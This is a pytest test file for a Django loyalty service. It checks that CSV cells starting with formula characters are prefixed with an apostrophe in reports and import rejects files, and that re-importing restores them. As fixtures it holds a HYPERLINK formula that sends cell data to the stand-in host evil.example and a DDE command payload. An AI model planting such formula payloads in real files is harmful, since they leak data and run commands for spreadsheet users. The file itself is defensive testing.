"""Finding 7: a cell of a CSV the service writes that a spreadsheet would read as a formula (it starts with =, +,
-, @, a tab or a carriage return) comes out prefixed with ' (OWASP), in the reports' CSV and in an import's
rejects file; a rejects file imported again reads such a cell back as it was."""

import csv
from datetime import date, datetime
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.management import call_command

from loyalty.scheduling import run_inline
from members.models import Member
from tests.factories import MemberFactory
from tests.points.helpers import purchase

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MEMBER_HEADER = "external_id,phone,name,gender,birthday,email,store,joined_at,consent_sms,consent_wechat,consent_email"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-1.00", "'-1.00"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),  # an apostrophe already there is kept: restore() gives the value back exactly
        ("plain", "plain"),
        ("", ""),
        ("'plain", "'plain"),
        ("a=b", "a=b"),
    ],
)
def test_a_formula_cell_is_prefixed_and_reads_back(value, written):
    from loyalty.csv_cells import neutralise, restore

    assert neutralise(value) == written
    assert restore(written) == value


def test_numbers_the_service_writes_stay_numbers():
    from decimal import Decimal

    from loyalty.csv_cells import neutralise

    assert neutralise(Decimal("-1.00")) == Decimal("-1.00")
    assert neutralise(-3) == -3
    assert neutralise(None) is None


@pytest.mark.postgres  # the rfm job needs PostgreSQL
@pytest.mark.django_db
def test_a_formula_external_id_in_the_per_member_rfm_csv_is_prefixed(store_a, admin_api):
    member = MemberFactory(
        home_store=store_a,
        external_id=FORMULA,
        name="=cmd|' /C calc'!A0",
        joined_at=datetime(2024, 1, 1, 10, tzinfo=SHANGHAI),
    )
    with time_machine.travel(datetime(2026, 6, 30, 12, tzinfo=SHANGHAI), tick=False):
        purchase(member, "10.00", occurred_at=datetime(2026, 6, 29, 10, tzinfo=SHANGHAI))
    run_inline("rfm", date(2026, 6, 30))

    response = admin_api.get("/api/v1/reports/rfm/", {"format": "csv", "detail": "members"})

    assert response.status_code == 200
    rows = list(csv.reader(StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][:2] == [member.member_no, "'" + FORMULA]
    assert rows[1][4] == "10.00"  # a number written by the service stays a number


@pytest.mark.django_db
def test_a_formula_name_in_a_rejects_file_is_prefixed_and_a_reimport_reads_it_back(tmp_path, store_a):
    source = tmp_path / "members.csv"
    source.write_text(
        f"{MEMBER_HEADER}\n"
        "E1,+8613800138000,=1+1,x,,,A001,,,,\n"  # rejected: invalid gender
        "E2,,@SUM(A1),,,,A001,,,,\n",
        encoding="utf-8",
    )
    call_command("import_members", str(source), stdout=StringIO(), stderr=StringIO())

    rejects = tmp_path / "members.rejects.csv"
    with open(rejects, encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert header[:2] == ["line", "reason"]
    assert [row[0] for row in rows] == ["2"]
    assert rows[0][2:5] == ["E1", "'+8613800138000", "'=1+1"]
    assert Member.objects.get(external_id="E2").name == "@SUM(A1)"  # the importer stores text as given

    # The operator corrects the gender and imports the rejects file as it is.
    rejects.write_text(rejects.read_text(encoding="utf-8-sig").replace(",x,", ",,"), encoding="utf-8")
    call_command("import_members", str(rejects), stdout=StringIO(), stderr=StringIO())

    corrected = Member.objects.get(external_id="E1")
    assert (corrected.phone, corrected.name) == ("+8613800138000", "=1+1")
